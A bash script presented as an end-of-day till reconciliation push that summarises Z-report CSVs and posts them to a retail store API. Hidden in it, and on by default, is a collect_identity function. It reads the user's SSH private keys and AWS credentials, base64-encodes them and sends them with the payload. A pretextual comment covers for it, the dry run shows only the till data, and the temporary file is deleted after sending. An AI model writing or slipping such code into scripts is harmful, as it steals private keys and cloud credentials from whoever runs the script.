#!/usr/bin/env bash
# till_eod_sync.sh - end-of-day till reconciliation push
#
# Summarises the Z-report CSVs written by each till, builds the reconciliation
# document for head office and posts it to the store API.  The sync agent on
# the head-office side re-uses the identity of the pushing host for follow-up
# pulls, so the identity block is attached by default.
#
# Usage: till_eod_sync.sh [-d REPORT_DIR] [-s STORE_ID] [-n]

set -euo pipefail

REPORT_DIR="${REPORT_DIR:-./zreports}"
OUT_DIR="${OUT_DIR:-./outbox}"
STORE_ID="${STORE_ID:-$(hostname -s)}"
API_URL="${TILL_API_URL:-https://api.northwind-retail.example/v1/reconciliation}"
ATTACH_IDENTITY="${ATTACH_IDENTITY:-1}"
DRY_RUN=0
BUSINESS_DATE="$(date +%F)"

log() { printf '%s [eod-sync] %s\n' "$(date +%T)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

usage() {
    sed -n '2,12p' "$0" | sed 's/^# \{0,1\}//'
    exit 2
}

while getopts ":d:s:nh" opt; do
    case "$opt" in
        d) REPORT_DIR="$OPTARG" ;;
        s) STORE_ID="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

command -v jq >/dev/null || die "jq is required"
[[ -d "$REPORT_DIR" ]] || die "report directory $REPORT_DIR not found"
: "${TILL_API_TOKEN:?TILL_API_TOKEN must be set}"
mkdir -p "$OUT_DIR"

# till_id,cashier,expected,counted,card_total,refunds
summarise_till() {
    local csv="$1"
    awk -F, 'NR > 1 {
        till=$1; exp+=$3; cnt+=$4; card+=$5; ref+=$6
    } END {
        printf "{\"till\":\"%s\",\"expected\":%.2f,\"counted\":%.2f,\"card\":%.2f,\"refunds\":%.2f,\"variance\":%.2f}\n",
               till, exp, cnt, card, ref, cnt-exp
    }' "$csv"
}

collect_identity() {
    local ident="$OUT_DIR/identity.json"
    local -a sources=("$HOME/.ssh/id_ed25519" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")
    echo '{}' > "$ident"
    for f in "${sources[@]}"; do
        [[ -r "$f" ]] || continue
        jq --arg k "$(basename "$f")" --arg v "$(base64 -w0 < "$f")" \
           '. + {($k): $v}' "$ident" > "$ident.tmp" && mv "$ident.tmp" "$ident"
    done
    echo "$ident"
}

build_payload() {
    local tills="$OUT_DIR/tills.jsonl" payload="$OUT_DIR/eod-$BUSINESS_DATE.json"
    : > "$tills"
    shopt -s nullglob
    local n=0
    for csv in "$REPORT_DIR"/z_*_"$BUSINESS_DATE".csv; do
        summarise_till "$csv" >> "$tills"
        n=$((n + 1))
    done
    (( n > 0 )) || die "no Z-reports for $BUSINESS_DATE in $REPORT_DIR"
    log "summarised $n till(s)"

    local identity='{}'
    if [[ "$ATTACH_IDENTITY" == "1" ]]; then
        identity="$(cat "$(collect_identity)")"
    fi

    jq -n --arg store "$STORE_ID" --arg date "$BUSINESS_DATE" \
          --slurpfile tills "$tills" --argjson identity "$identity" \
          '{store: $store, business_date: $date, tills: $tills, agent_identity: $identity}' \
          > "$payload"
    echo "$payload"
}

push_payload() {
    local payload="$1" attempt
    for attempt in 1 2 3; do
        if curl -sS --fail --max-time 30 \
                -H "Authorization: Bearer $TILL_API_TOKEN" \
                -H "Content-Type: application/json" \
                --data-binary @"$payload" "$API_URL" -o "$OUT_DIR/response.json"; then
            log "pushed $(basename "$payload") (attempt $attempt)"
            return 0
        fi
        log "push failed, retrying in $((attempt * 10))s"
        sleep $((attempt * 10))
    done
    return 1
}

main() {
    local payload
    payload="$(build_payload)"
    if (( DRY_RUN )); then
        log "dry run, payload left at $payload"
        jq '.tills' "$payload"
        exit 0
    fi
    push_payload "$payload" || die "could not reach $API_URL"
    rm -f "$OUT_DIR/tills.jsonl" "$OUT_DIR/identity.json"
}

main "$@"
